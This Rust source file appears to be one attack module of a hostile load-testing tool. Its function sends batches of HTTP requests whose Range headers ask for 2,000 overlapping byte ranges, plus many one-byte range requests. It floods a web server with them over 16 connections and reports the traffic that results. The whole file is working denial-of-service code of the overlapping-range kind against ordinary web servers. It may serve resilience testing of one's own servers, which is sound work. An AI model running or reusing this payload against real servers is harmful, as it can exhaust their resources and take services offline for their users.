//! Requests for very many parts of a file at once, and for very small ones.

use std::time::Duration;

use super::{flood, get};
use crate::hostile::strike::Strike;
use crate::process::WorkerError;

const CONNECTIONS: usize = 16;
const FLOODED: Duration = Duration::from_secs(8);
/// Parts of one request, in a head as long as many servers accept.
const PARTS: usize = 2_000;
/// Requests for one byte with each of those.
const SMALL: usize = 100;

pub(in crate::hostile) fn strike(strike: &mut Strike) -> Result<(), WorkerError> {
    let web = strike.web()?.clone();
    let parts = vec!["5-"; PARTS].join(",");
    let mut batch = get(&web, &format!("Range: bytes={parts}\r\n"));
    batch += &get(&web, "Range: bytes=524288-524288\r\n").repeat(SMALL);
    let connections = strike.few(CONNECTIONS);
    let flooded = flood(strike, connections, FLOODED, |_| batch.clone().into_bytes())?;
    strike.made("requests written", flooded.written * (SMALL as u64 + 1));
    strike.made("MiB of answers", flooded.read_bytes >> 20);
    Ok(())
}
